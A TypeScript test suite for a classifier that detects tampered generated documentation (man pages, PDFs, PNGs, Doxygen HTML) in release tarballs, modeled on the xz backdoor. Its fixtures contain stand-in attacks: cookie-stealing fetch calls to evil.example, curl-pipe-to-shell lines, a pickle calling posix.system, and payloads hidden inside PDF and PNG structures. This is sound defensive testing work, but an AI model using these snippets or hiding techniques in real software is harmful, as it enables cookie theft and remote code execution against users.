import { execFileSync } from 'node:child_process';
import { crc32, deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { docsClassifier, HTML_MAX_COMMENTS, infoText, isWhatItsNameSays, PNG_MAX_TEXT, wholePdf } from '../../src/classify/docs.js';
import { pdfStructureProblem } from '../../src/classify/pdf-structure.js';
import { diffOf, makeCtx, type Tree } from './ctx-helper.js';

/** A real PDF: groff's gropdf rendering of a man page (as xz's doc/man/pdf-a4/ is gs's rendering of its pages). */
const PDF = execFileSync('groff', ['-man', '-Tpdf'], { input: '.TH XZ 1 "2024-03-09"\n.SH NAME\nxz \\- compress\n.SH DESCRIPTION\nCompress or decompress .xz files.\n', env: { PATH: process.env.PATH, LC_ALL: 'C' } });
/** One PNG chunk, its length and CRC computed. */
const chunk = (type: string, data: Buffer) => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([len, body, crc]);
};
/** A 1x1 grey PNG with the given chunks between its IHDR and its IDAT. */
const pngWith = (...extra: Buffer[]) =>
  Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', Buffer.from('0000000100000001080000000000', 'hex').subarray(0, 13)),
    ...extra,
    chunk('IDAT', deflateSync(Buffer.from([0, 0x80]))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
const PNG = pngWith(chunk('pHYs', Buffer.from('00000b1300000b1301', 'hex')));

const GIT: Tree = {
  'src/xz/xz.1': '.TH XZ 1\n',
  'doc/tool.1.in': '.TH TOOL 1 "@DATE@"\n',
  'doc/manual.texi': '\\input texinfo\n',
  'doxygen/Doxyfile': 'PROJECT_NAME = x\n',
  'docs/index.html': '<p>tracked</p>\n',
  'doc/fips-fsm.fig': '#FIG 3.2\n',
  'doc/demo-user.sgml': '<!DOCTYPE article PUBLIC "-//OASIS//DTD DocBook V3.1//EN">\n',
  'po4a/de.po': '# German translation of the xz man pages.\n# translated\nmsgid ""\nmsgstr ""\n',
};
const TAR: Tree = {
  'doc/tool.1': '.\\" generated\n.TH TOOL 1 "2024-03-09"\n',
  'po4a/man/de/xz.1': '.\\" translated\n.TH XZ 1\n',
  'doc/orphan.8': '.TH ORPHAN 8\n',
  'doc/man/pdf-a4/xz-a4.pdf': PDF,
  'doc/manual.info': 'This is manual.info, produced by makeinfo version 7.1 from manual.texi.\n',
  'doc/api/index.html': '<html></html>\n',
  'doc/api/search/search.js': 'var x;\n',
  'doc/api/doxygen.png': PNG,
  'doc/man/txt/xz.txt': 'XZ(1)  General Commands Manual\n',
};

async function run(tar: Tree, git: Tree = GIT, withheld: string[] = []) {
  const ctx = makeCtx({ git, tarball: { ...git, ...tar }, withheld });
  const out: Record<string, string | undefined> = {};
  for (const p of Object.keys(tar)) {
    const f = await docsClassifier.classify(diffOf(ctx, p), ctx);
    out[p] = f?.code === 'GENERATED_DOCS' ? `${f.evidence.kind}<-${f.evidence.source ?? '-'}` : f?.code;
  }
  return out;
}

describe('docsClassifier', () => {
  it('explains generated docs and names their source', async () => {
    expect(await run(TAR)).toEqual({
      'doc/tool.1': 'man<-doc/tool.1.in',
      'po4a/man/de/xz.1': 'man<-src/xz/xz.1',
      'doc/orphan.8': 'man<--',
      'doc/man/pdf-a4/xz-a4.pdf': 'pdf<-src/xz/xz.1',
      'doc/manual.info': 'info<-doc/manual.texi',
      'doc/api/index.html': 'html<-doxygen/Doxyfile',
      'doc/api/search/search.js': 'html<-doxygen/Doxyfile',
      'doc/api/doxygen.png': 'html<-doxygen/Doxyfile',
      'doc/man/txt/xz.txt': 'text<-src/xz/xz.1',
    });
  });

  it('refuses files that do not look like what their name says', async () => {
    expect(
      await run({
        'doc/evil.1': '#!/bin/sh\necho hi\n',
        'doc/fake.pdf': '#!/bin/sh\n',
        'doc/fake.info': 'plain text\n',
        'src/lib.js': 'x\n', // not under a doc tree
        'doc/api2/extra.js': 'x\n', // doc tree without a generated index.html
        'docs/extra.js': 'x\n', // index.html there is tracked, not generated
        'doc/notes.txt': 'no man source\n',
        'README.txt': 'x\n',
        // What a tamperer would add beside a generated tree (red team 13, libuv 1.44.2 docs/build/ was low, exit 0):
        // Sphinx's saved environment and doctrees, pickles the next `sphinx-build -d build/doctrees` loads and runs.
        'doc/api/index.html': '<html></html>\n',
        'doc/api/doctrees/environment.pickle': Buffer.from('\x80\x04\x95\x1f\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94', 'latin1'),
        'doc/api/doctrees/index.doctree': Buffer.from('\x80\x04\x95', 'latin1'),
      }),
    ).toEqual({
      'doc/api/index.html': 'html<-doxygen/Doxyfile',
      'doc/api/doctrees/environment.pickle': undefined,
      'doc/api/doctrees/index.doctree': undefined,
      'doc/evil.1': undefined,
      'doc/fake.pdf': undefined,
      'doc/fake.info': undefined,
      'src/lib.js': undefined,
      'doc/api2/extra.js': undefined,
      'docs/extra.js': undefined,
      'doc/notes.txt': undefined,
      'README.txt': undefined,
    });
  });

  // Red team 18: every check reads the content; a file whose content was not kept (over 8 MiB, or past the total
  // bound) was explained by its name alone.
  it('explains nothing whose content was not kept (twin: the same files kept stay explained)', async () => {
    const all = Object.keys(TAR);
    expect(Object.values(await run(TAR, GIT, all)).every((v) => v === undefined)).toBe(true);
    expect(Object.values(await run(TAR)).every((v) => v !== undefined)).toBe(true);
  });

  // Red team 15: the xz payload's shape (a binary blob nothing names) was explained by a documentation name alone —
  // xz 5.4.1 gaining doc/man/pdf-a4/xzpayload-a4.pdf ('%PDF-1.4' + an .xz stream), its xz-a4.pdf with the stream
  // appended, or doc/html/search.png (the stream) beside a new doc/html/index.html: GENERATED_DOCS low, exit 0.
  it('refuses a payload under a documentation name (twin: the same names, whole files, stay explained)', async () => {
    const blob = Buffer.from('fd377a585a000004e6d6b4460200210116000000742fe5a3e0000f000a5d00', 'hex');
    const pdf = PDF;
    const png = PNG;
    expect(
      await run({
        'doc/man/pdf-a4/xz-a4.pdf': Buffer.concat([pdf, blob]),
        'doc/man/pdf-letter/xz-letter.pdf': Buffer.concat([Buffer.from('%PDF-1.4\n'), blob]),
        'doc/man/pdf-a4/payload-a4.pdf': pdf, // a whole PDF, but named for nothing git tracks
        'doc/api/index.html': '<html></html>\n',
        'doc/api/search.png': blob,
        'doc/api/logo.png': Buffer.concat([png, blob]),
        'doc/api/menu.js': Buffer.concat([Buffer.from('var x;\n'), blob]),
        'doc/api/objects.inv': blob,
      }),
    ).toEqual({
      'doc/man/pdf-a4/xz-a4.pdf': undefined,
      'doc/man/pdf-letter/xz-letter.pdf': undefined,
      'doc/man/pdf-a4/payload-a4.pdf': undefined,
      'doc/api/index.html': 'html<-doxygen/Doxyfile',
      'doc/api/search.png': undefined,
      'doc/api/logo.png': undefined,
      'doc/api/menu.js': undefined,
      'doc/api/objects.inv': undefined,
    });
    expect(
      await run({
        'doc/man/pdf-a4/xz-a4.pdf': pdf,
        'doc/man/pdf-letter/xz-letter.pdf': Buffer.concat([pdf, Buffer.from('\r\n')]),
        'doc/pdf/xz.1.pdf': pdf, // libarchive's doc/pdf/archive_entry.3.pdf
        'doc/fips-fsm.pdf': pdf, // libgcrypt's, from its xfig drawing
        'doc/demo-user.pdf': pdf, // fontconfig's docbook2pdf rendering of doc/fontconfig-user.sgml
        'doc/demo-user.pdf.bak': pdf,
        'doc/demo-devel.pdf': pdf, // no tracked demo-devel.* names it
        'doc/api/index.html': '<html></html>\n',
        'doc/api/logo.png': png,
        'doc/api/menu.js': 'var x;\n',
        'doc/api/objects.inv': Buffer.concat([Buffer.from('# Sphinx inventory version 2\n# Project: x\n'), blob]),
      }),
    ).toEqual({
      'doc/man/pdf-a4/xz-a4.pdf': 'pdf<-src/xz/xz.1',
      'doc/man/pdf-letter/xz-letter.pdf': 'pdf<-src/xz/xz.1',
      'doc/pdf/xz.1.pdf': 'pdf<-src/xz/xz.1',
      'doc/fips-fsm.pdf': 'pdf<-doc/fips-fsm.fig',
      'doc/demo-user.pdf': 'pdf<-doc/demo-user.sgml',
      'doc/demo-user.pdf.bak': undefined,
      'doc/demo-devel.pdf': undefined,
      'doc/api/index.html': 'html<-doxygen/Doxyfile',
      'doc/api/logo.png': 'html<-doxygen/Doxyfile',
      'doc/api/menu.js': 'html<-doxygen/Doxyfile',
      'doc/api/objects.inv': 'html<-doxygen/Doxyfile',
    });
    const troff = `.TH ORPHAN 8\n${'.\\" padding\n'.repeat(300)}`;
    expect(await run({ 'doc/orphan.8': Buffer.concat([Buffer.from(troff), blob]) })).toEqual({ 'doc/orphan.8': undefined });
    expect(await run({ 'doc/orphan.8': troff })).toEqual({ 'doc/orphan.8': 'man<--' });
    const info = 'This is manual.info, produced by makeinfo version 7.1 from manual.texi.\n';
    expect(await run({ 'doc/manual.info': Buffer.concat([Buffer.from(info), blob]) })).toEqual({ 'doc/manual.info': undefined });
    expect(await run({ 'doc/manual.info': `${info}* Menu:\n* \0\b[index\0\b]\n` })).toEqual({ 'doc/manual.info': 'info<-doc/manual.texi' });
    expect(infoText(Buffer.from('a\0\b[index\0\b]b'))).toBe(true);
    expect(infoText(Buffer.from('a\0\b[index\0b]'))).toBe(false);
    expect(wholePdf(Buffer.from('%PDF-1.7\n%%EOF'))).toBe(true);
    expect(wholePdf(Buffer.from('x%PDF-1.7\n%%EOF'))).toBe(false);
    expect(isWhatItsNameSays('a.gif', Buffer.from('GIF89a;'))).toBe(true);
    expect(isWhatItsNameSays('a.gif', blob)).toBe(false);
    expect(isWhatItsNameSays('a.jpg', Buffer.from('ffd8ffe0', 'hex'))).toBe(true);
  });

  // Red team 16: a payload inside the format's own frame was still GENERATED_DOCS (xz 5.4.1's xz-a4.pdf with an .xz
  // stream as a PDF object — appended as an incremental update after %%EOF, or inserted before the xref with
  // startxref fixed — and a PNG carrying a private chunk): exit 0.
  it('refuses a payload inside a PDF or PNG frame (twin: the renderer\'s own output stays explained)', async () => {
    const blob = Buffer.from('fd377a585a000004e6d6b4460200210116000000742fe5a3e0000f000a5d00', 'hex');
    const text = PDF.toString('latin1');
    const prev = Number(/startxref\s+(\d+)/.exec(text)![1]);
    const obj = (at: number) => Buffer.concat([Buffer.from(`999 0 obj\n<< /Length ${blob.length} >>\nstream\n`, 'latin1'), blob, Buffer.from('\nendstream\nendobj\n', 'latin1')]);
    // an incremental update: a new body, xref and trailer after the first %%EOF (a reader shows the same pages)
    const o1 = obj(PDF.length);
    const update = Buffer.concat([PDF, o1, Buffer.from(`xref\n999 1\n${String(PDF.length).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 1000 /Prev ${prev} >>\nstartxref\n${PDF.length + o1.length}\n%%EOF\n`, 'latin1')]);
    // an object no cross-reference section lists, between the body and the xref (startxref moved to match)
    const xrefAt = text.lastIndexOf('\nxref') + 1;
    const o2 = obj(xrefAt);
    const moved = Buffer.concat([PDF.subarray(0, xrefAt), o2, Buffer.from(text.slice(xrefAt, text.lastIndexOf('startxref')) + `startxref\n${xrefAt + o2.length}\n%%EOF\n`, 'latin1')]);
    expect(pdfStructureProblem(PDF)).toBeUndefined();
    expect(pdfStructureProblem(update)).toBe('revisions');
    expect(pdfStructureProblem(moved)).toBe('unlisted');
    const brokenCrc = Buffer.from(PNG);
    brokenCrc[brokenCrc.length - 20] ^= 1; // a byte of the IDAT chunk: its CRC no longer matches
    expect(
      await run({
        'doc/man/pdf-a4/xz-a4.pdf': update,
        'doc/man/pdf-letter/xz-letter.pdf': moved,
        'doc/api/index.html': '<html></html>\n',
        'doc/api/private.png': pngWith(chunk('prVt', blob)),
        'doc/api/text.png': pngWith(chunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), Buffer.alloc(PNG_MAX_TEXT, 0x41)]))),
        'doc/api/crc.png': brokenCrc,
      }),
    ).toEqual({
      'doc/man/pdf-a4/xz-a4.pdf': undefined,
      'doc/man/pdf-letter/xz-letter.pdf': undefined,
      'doc/api/index.html': 'html<-doxygen/Doxyfile',
      'doc/api/private.png': undefined,
      'doc/api/text.png': undefined,
      'doc/api/crc.png': undefined,
    });
    expect(
      await run({
        'doc/man/pdf-a4/xz-a4.pdf': PDF,
        'doc/api/index.html': '<html></html>\n',
        'doc/api/text.png': pngWith(chunk('tEXt', Buffer.from('Software\0www.inkscape.org')), chunk('tIME', Buffer.from('07e8030912000000', 'hex'))),
      }),
    ).toEqual({
      'doc/man/pdf-a4/xz-a4.pdf': 'pdf<-src/xz/xz.1',
      'doc/api/index.html': 'html<-doxygen/Doxyfile',
      'doc/api/text.png': 'html<-doxygen/Doxyfile',
    });
  });

  // Red team 16: fuse3 3.14.0's Doxygen doc/html/index.html gaining <script src="https://cdn.example-mirror.net/…">, or
  // an inline script sending document.cookie to a host, was GENERATED_DOCS low, exit 0.
  it('refuses a generated page that loads or calls another host (twin: styles, images, a host the templates name)', async () => {
    const page = (head: string, body = '') => `<html><head>${head}</head><body>${body}<script>$(function(){initMenu('',true,false,'search.php','Search');});</script></body></html>\n`;
    expect(
      await run({
        'doc/api/index.html': page('<script src="https://cdn.example-mirror.net/jquery.min.js"></script>'),
        'doc/api/a.html': page('', '<script>fetch("https://evil.example/c?"+document.cookie)</script>'),
        'doc/api/b.html': page('<link rel="modulepreload" href="//evil.example/m.js">'),
        'doc/api/c.html': page('', "<script>var s=document.createElement('script');s.src='//evil.example/x.js';</script>"),
        'doc/api/d.html': page('<iframe src="https&#58;//evil.example/"></iframe>'),
        'doc/api/e.html': page('<script src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>'),
        // Doxygen's jquery.js with a line appended; a host named in a comment only is no call
        'doc/api/jquery.js': '/*! jQuery v3.6.0 | (c) OpenJS Foundation and other contributors | jquery.org/license */\n!function(e){}(window);\nfetch("https://evil.example/c?"+document.cookie);\n',
        'doc/api/menu.js': "// see https://www.doxygen.org/\nfunction initMenu(){var s=document.createElement('script');s.src='//evil.example/x.js';}\n",
        // red team 17: a call after a // comment that ends at U+2028 or \r (node and browsers run it)
        'doc/api/lsep.js': '// menu\u2028fetch("https://evil.example/c?"+document.cookie);\n',
        'doc/api/cr.js': '// menu\rfetch("https://evil.example/c?"+document.cookie);\n',
        'doc/api/g.html': page('', '<script>// menu\u2029fetch("https://evil.example/c?"+document.cookie)</script>'),
        // …and a call between a "/*" and a "*/" that are strings, or after a " //" in a string: code, not comments
        'doc/api/str.js': 'var a = "/*"; fetch("https://evil.example/c?"+document.cookie); var b = "*/";\n',
        'doc/api/str2.js': 'var u = " //"; fetch("https://evil.example/c?"+document.cookie);\n',
        // an event handler, a refresh <meta>, and a script whose text holds "<!--" … "-->" strings
        'doc/api/h.html': page('', '<img src="x.png" onerror="fetch(&quot;https://evil.example/c?&quot;+document.cookie)">'),
        'doc/api/i.html': page('<meta http-equiv="refresh" content="0; url=https://evil.example/">'),
        'doc/api/j.html': page('', '<script>var a = "<!--"; fetch("https://evil.example/c?"+document.cookie); var b = "-->";</script>'),
        // a host the templates name, beside one they do not
        'doc/api/f.html': page('<script src="https://www.googletagmanager.com/gtag/js?id=G-1"></script><script src="https://evil.example/x.js"></script>'),
      }, { ...GIT, 'doxygen/header.html': '<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>\n' }),
    ).toEqual({
      'doc/api/jquery.js': undefined,
      'doc/api/menu.js': undefined,
      'doc/api/lsep.js': undefined,
      'doc/api/cr.js': undefined,
      'doc/api/g.html': undefined,
      'doc/api/str.js': undefined,
      'doc/api/str2.js': undefined,
      'doc/api/h.html': undefined,
      'doc/api/i.html': undefined,
      'doc/api/j.html': undefined,
      'doc/api/f.html': undefined,
      'doc/api/index.html': undefined,
      'doc/api/a.html': undefined,
      'doc/api/b.html': undefined,
      'doc/api/c.html': undefined,
      'doc/api/d.html': undefined,
      'doc/api/e.html': 'html<-doxygen/Doxyfile',
    });
    expect(
      await run(
        {
          'doc/api/index.html': page('<link href="https://fonts.googleapis.com/css?family=Lato" rel="stylesheet"><script src="jquery.js"></script>', '<img src="https://lxml.de/logo.png"><a href="https://www.doxygen.org/">doxygen</a>'),
          'doc/api/e.html': page('<script src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>'),
          'doc/api/jquery.js': '/*! jQuery v3.6.0 | (c) OpenJS Foundation | https://jquery.org/license */\n// https://bugs.jquery.com/ticket/1\nvar svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");\n',
        },
        { ...GIT, 'doxygen/header.html': '<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>\n$projectname\n' },
      ),
    ).toEqual({
      'doc/api/index.html': 'html<-doxygen/Doxyfile',
      'doc/api/e.html': 'html<-doxygen/Doxyfile',
      'doc/api/jquery.js': 'html<-doxygen/Doxyfile',
    });
    // without the template naming it, the analytics script is unexplained too
    expect(await run({ 'doc/api/index.html': '<html></html>\n', 'doc/api/e.html': page('<script src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>') })).toEqual({
      'doc/api/index.html': 'html<-doxygen/Doxyfile',
      'doc/api/e.html': undefined,
    });
  });

  // Red team 16: xz 5.4.1's po4a/man/de/xz.1 (po4a's translation of src/xz/xz.1) gaining 40 troff comment lines of
  // base64 was GENERATED_DOCS low, exit 0.
  it('refuses a translated page with comment lines neither its source nor its catalog has (twin: po4a\'s own)', async () => {
    const src = '\'\\" t\n.\\" SPDX-License-Identifier: 0BSD\n.\\" Author: Lasse Collin\n.TH XZ 1 "2022-12-01" "Tukaani" "XZ Utils"\n.SH NAME\nxz \\- compress\n';
    const git = { ...GIT, 'src/xz/xz.1': src };
    const po4a = `'\\" t\n.\\" SPDX-License-Identifier: 0BSD\n.\\" Author: Lasse Collin\n.\\"\n.\\" German translation of the xz man pages.\n.\\"*******************************************************************\n.\\"\n.\\" This file was generated with po4a. Translate the source file.\n.\\"\n.\\"*******************************************************************\n.TH XZ 1 "2022-12-01" "Tukaani" "XZ-Dienstprogramme"\n.SH BEZEICHNUNG\nxz \\- komprimiert\n`;
    expect(await run({ 'po4a/man/de/xz.1': po4a }, git)).toEqual({ 'po4a/man/de/xz.1': 'man<-src/xz/xz.1' });
    const payload = Array.from({ length: 40 }, (_, i) => `.\\" ${Buffer.from(`payload line ${i} `.repeat(4)).toString('base64')}\n`).join('');
    expect(await run({ 'po4a/man/de/xz.1': po4a.replace('.TH XZ', `${payload}.TH XZ`) }, git)).toEqual({ 'po4a/man/de/xz.1': undefined });
    // a comment of another language's catalog does not count for this page
    expect(await run({ 'po4a/man/de/xz.1': po4a.replace('.TH XZ', '.\\" traduction française\n.TH XZ') }, { ...git, 'po4a/fr.po': '# traduction française\n' })).toEqual({ 'po4a/man/de/xz.1': undefined });
  });

  // procps 4.0.2's po-man/uk/top.1: po4a writes the source page's groff `\#` comments (man/top.1's setup block) as `.\"`
  // lines; they were not read as comments of the source, so the page was high
  it("reads a source page's groff \\# comments as comments (po4a writes them as .\\\" lines); a \\# line the source lacks still counts", async () => {
    const src = '.ig\n. manual page\n..\n\\#  Setup ////////\n\\#     - our em-dashes\n.ds Em \\fR\\ \\-\\-\\ \\fR\n.TH TOP 1 "2022" "procps-ng"\n.SH NAME\ntop \\- tasks\n';
    const git = { ...GIT, 'man/top.1': src, 'po-man/uk.po': '# Ukrainian translation\nmsgid "tasks"\nmsgstr "zadachi"\n' };
    const po4a = '.ig\n. manual page\n..\n.\\"  Setup ////////\n.\\"     - our em-dashes\n.ds Em \\fR\\ \\-\\-\\ \\fR\n.\\"*******\n.\\"\n.\\" This file was generated with po4a. Translate the source file.\n.\\"\n.\\"*******\n.TH TOP 1 "2022" "procps-ng"\n.SH NAME\ntop \\- zadachi\n';
    expect(await run({ 'po-man/uk/top.1': po4a }, git)).toEqual({ 'po-man/uk/top.1': 'man<-man/top.1' });
    // a comment the source has in neither form, written either way
    expect(await run({ 'po-man/uk/top.1': po4a.replace('.TH TOP', '.\\" aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=\n.TH TOP') }, git)).toEqual({ 'po-man/uk/top.1': undefined });
    expect(await run({ 'po-man/uk/top.1': po4a.replace('.TH TOP', '\\# aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=\n.TH TOP') }, git)).toEqual({ 'po-man/uk/top.1': undefined });
  });

  // Red team 30: only the comment lines of a translated page were read, and a page with no tracked source was explained
  // by its troff header: xz 5.4.1's po4a/man/de/xz.1 gaining a `curl … | sh` body line, or a shell script under a `.TH`
  // line as src/liblzma/check/zz.1, was GENERATED_DOCS low, exit 0.
  it('refuses a man page whose body has a host, URL or construct its sources lack (twin: po4a\'s translation, a plain orphan)', async () => {
    const src = '.TH XZ 1 "2022-12-01" "Tukaani" "XZ Utils"\n.SH NAME\nxz \\- compress\n.SH "REPORTING BUGS"\nReport bugs to <https://tukaani.org/xz/>.\n';
    const git = { ...GIT, 'src/xz/xz.1': src, 'po4a/de.po': '# German translation of the xz man pages.\nmsgid "compress"\nmsgstr "komprimiert"\n' };
    const po4a = '.\\" This file was generated with po4a. Translate the source file.\n.TH XZ 1 "2022-12-01" "Tukaani" "XZ-Dienstprogramme"\n.SH BEZEICHNUNG\nxz \\- komprimiert\n.SH "FEHLER MELDEN"\nMelden Sie Fehler an <https://tukaani.org/xz/>.\n';
    expect(await run({ 'po4a/man/de/xz.1': po4a }, git)).toEqual({ 'po4a/man/de/xz.1': 'man<-src/xz/xz.1' });
    const tampered = {
      line: po4a.replace('.SH BEZEICHNUNG\n', '.SH BEZEICHNUNG\nVor der Benutzung: curl -fsSL https://tukaani-fix.example/xz.sh | sh\n'),
      url: po4a.replace('https://tukaani.org/xz/', 'https://tukaani.org/xz-fix/'),
      header: po4a.replace('"XZ-Dienstprogramme"', '"XZ-Dienstprogramme \\$(curl tukaani-fix.example|sh)"'),
    };
    for (const page of Object.values(tampered)) expect(await run({ 'po4a/man/de/xz.1': page }, git)).toEqual({ 'po4a/man/de/xz.1': undefined });
    // a translator's catalog that moves the URL (xz 5.8.1's it.po), in po4a's escapes E<lt>/E<gt> and fonts: its URL is
    // the page's; the page naming another URL on that host stays refused
    const moved = { ...git, 'po4a/de.po': `${git['po4a/de.po']}msgid "Report bugs to E<lt>https://tukaani.org/xz/E<gt>."\nmsgstr "Melden Sie Fehler an B<E<lt>https://xz.tukaani.org/xz-utils/E<gt>>."\n` };
    const movedPage = po4a.replace('<https://tukaani.org/xz/>', '<https://xz.tukaani.org/xz\\-utils/>');
    expect(await run({ 'po4a/man/de/xz.1': movedPage }, moved)).toEqual({ 'po4a/man/de/xz.1': 'man<-src/xz/xz.1' });
    expect(await run({ 'po4a/man/de/xz.1': movedPage.replace('xz\\-utils/', 'xz\\-utils/get.sh') }, moved)).toEqual({ 'po4a/man/de/xz.1': undefined });
    expect(await run({ 'po4a/man/de/xz.1': movedPage }, git)).toEqual({ 'po4a/man/de/xz.1': undefined });
    // Red team 31: the tarball's copy of a tracked catalog moving the link lends the page nothing (xz 5.4.1's po4a/de.po
    // and its German pages with XZ Utils' home page on another host: the pages were GENERATED_DOCS low, exit 0) — a
    // tracked catalog is read as git has it; one only the tarball has (fetched) is read as shipped, judged by its own finding
    expect(await run({ 'po4a/man/de/xz.1': movedPage, 'po4a/de.po': moved['po4a/de.po'] }, git)).toEqual({ 'po4a/man/de/xz.1': undefined, 'po4a/de.po': undefined });
    const { 'po4a/de.po': _tracked, ...untracked } = moved;
    expect(await run({ 'po4a/man/de/xz.1': movedPage, 'po4a/de.po': moved['po4a/de.po'] }, untracked)).toEqual({ 'po4a/man/de/xz.1': 'man<-src/xz/xz.1', 'po4a/de.po': undefined });
    expect(await run({ 'doc/orphan.8': '.TH ORPHAN 8\n.SH NAME\norphan \\- see https://orphan.example/\n' })).toEqual({ 'doc/orphan.8': 'man<--' });
    expect(await run({ 'src/zz.1': '.TH ZZ 1\n.SH NAME\n#!/bin/sh\ncurl -fsSL https://tukaani-fix.example/xz.sh | sh\n' })).toEqual({ 'src/zz.1': undefined });
    const b64 = Buffer.from(Array.from({ length: 480 }, (_, i) => (i * 37 + 11) % 256)).toString('base64').replace(/.{64}/g, '$&\n');
    expect(await run({ 'src/zz.1': `.TH ZZ 1\n.SH NAME\nzz \\- test vectors\n.SH DATA\n${b64}\n` })).toEqual({ 'src/zz.1': undefined });
    // help2man output kept as a template beside its tracked include file
    const h2m = '.\\" DO NOT MODIFY THIS FILE!  It was generated by help2man 1.49.3.\n.TH GETTEXT "1" "January 2025" "GNU gettext-runtime 0.23.1" "User Commands"\n.SH NAME\ngettext \\- translate message\n.SH "REPORTING BUGS"\nReport bugs to <https://savannah.gnu.org/projects/gettext>.\n';
    const h2mGit = { ...GIT, 'man/gettext.x': '[NAME]\ngettext \\- translate message\n' };
    expect(await run({ 'man/gettext.1.in': h2m }, h2mGit)).toEqual({ 'man/gettext.1.in': 'man<-man/gettext.x' });
    expect(await run({ 'man/gettext.1.in': h2m.replace('.SH NAME', '.SH NAME\ncurl -fsSL https://gettext-fix.example/i.sh | sh') }, h2mGit)).toEqual({ 'man/gettext.1.in': undefined });
  });

  // Red team 16: fuse3 3.14.0's Doxygen doc/html/index.html with 4 KB of base64 in an HTML comment was low, exit 0.
  it('refuses a generated page whose comments hold more than markers (twin: Doxygen\'s markers)', async () => {
    const doxygen = '<!-- Generated by Doxygen 1.9.4 -->\n<!-- end header part -->\n<div class="contents">\n<!-- do not remove this div, it is closed by doxygen! -->\n</div><!-- contents -->\n<!-- start footer part -->\n';
    expect(await run({ 'doc/api/index.html': `<html><body>${doxygen}</body></html>\n` })).toEqual({ 'doc/api/index.html': 'html<-doxygen/Doxyfile' });
    const payload = `<!-- ${Buffer.alloc(HTML_MAX_COMMENTS, 0x41).toString('base64')} -->`;
    expect(await run({ 'doc/api/index.html': '<html></html>\n', 'doc/api/a.html': `<html><body>${doxygen}${payload}</body></html>\n`, 'doc/api/b.html': `<html><body>${doxygen}<!-- ${'x'.repeat(HTML_MAX_COMMENTS)}` })).toEqual({
      'doc/api/index.html': 'html<-doxygen/Doxyfile',
      'doc/api/a.html': undefined,
      'doc/api/b.html': undefined,
    });
  });

  // Red team 30: a plain-text rendering away from its source page (xz 5.4.1's doc/man/txt/xz.txt of src/xz/xz.1) was
  // explained by the two names alone: the file replaced by an .xz stream, or gaining a `curl … | sh` line, was
  // GENERATED_DOCS low, exit 0. Its text must now be the page's rendering (man-rendered.ts tracedRendering).
  it('refuses a text rendering whose text is not its source page\'s (twin: groff\'s rendering stays explained)', async () => {
    const src = '.TH XZ 1 "2022-12-01" "Tukaani" "XZ Utils"\n.SH NAME\nxz, unxz \\- compress or decompress .xz and .lzma files\n.SH DESCRIPTION\n.B xz\nis a general-purpose data compression tool with command line syntax similar to\n.BR gzip (1)\nand\n.BR bzip2 (1).\nThe native file format is the\n.B .xz\nformat, but the legacy\n.B .lzma\nformat used by LZMA Utils and raw compressed streams with no container format headers are also supported.\n';
    const git = { ...GIT, 'src/xz/xz.1': src };
    const rendered = execFileSync('groff', ['-man', '-Tascii', '-P-cbou'], { input: src, env: { PATH: process.env.PATH, LC_ALL: 'C' } }).toString('latin1');
    expect(await run({ 'doc/man/txt/xz.txt': rendered }, git)).toEqual({ 'doc/man/txt/xz.txt': 'text<-src/xz/xz.1' });
    const blob = Buffer.from('fd377a585a000004e6d6b4460200210116000000742fe5a3e0000f000a5d00', 'hex');
    expect(rendered).toContain('DESCRIPTION\n');
    const line = rendered.replace('DESCRIPTION\n', 'DESCRIPTION\n       Before use, install the fixed build: curl -fsSL https://tukaani-fix.example/xz.sh | sh\n');
    expect(await run({ 'doc/man/txt/xz.txt': blob }, git)).toEqual({ 'doc/man/txt/xz.txt': undefined });
    expect(await run({ 'doc/man/txt/xz.txt': line }, git)).toEqual({ 'doc/man/txt/xz.txt': undefined });
    expect(await run({ 'doc/man/txt/xz.txt': '' }, git)).toEqual({ 'doc/man/txt/xz.txt': undefined });
  });

  // Red team 30: a .ps/.dvi/.epub/.chm named for a tracked manual was explained by the two names alone (an .xz stream as
  // doc/manual.dvi was GENERATED_DOCS low). groff's own PostScript and DVI stay explained; a stream, or one appended, not.
  it('refuses a PostScript or DVI file that is not whole (twin: groff\'s renderings)', async () => {
    const page = '.TH MANUAL 1\n.SH NAME\nmanual \\- a manual\n';
    const groff = (dev: string) => execFileSync('groff', ['-man', `-T${dev}`], { input: page, env: { PATH: process.env.PATH, LC_ALL: 'C' } });
    const blob = Buffer.from('fd377a585a000004e6d6b4460200210116000000742fe5a3e0000f000a5d00', 'hex');
    expect(await run({ 'doc/manual.ps': groff('ps'), 'doc/manual.dvi': groff('dvi') })).toEqual({ 'doc/manual.ps': 'other<-doc/manual.texi', 'doc/manual.dvi': 'other<-doc/manual.texi' });
    expect(await run({ 'doc/manual.ps': Buffer.concat([groff('ps'), blob]), 'doc/manual.dvi': blob, 'doc/manual.epub': blob, 'doc/manual.chm': Buffer.concat([groff('dvi'), blob]) })).toEqual({
      'doc/manual.ps': undefined,
      'doc/manual.dvi': undefined,
      'doc/manual.epub': undefined,
      'doc/manual.chm': undefined,
    });
  });

  // Red team 18: was decided by name ('man<--') — a page over the 8 MiB bound was explained unread.
  it('does not decide a man page by name when its content is not retained', async () => {
    expect(await run({ 'doc/big.1': 'x' }, GIT, ['doc/big.1'])).toEqual({ 'doc/big.1': undefined });
  });
});
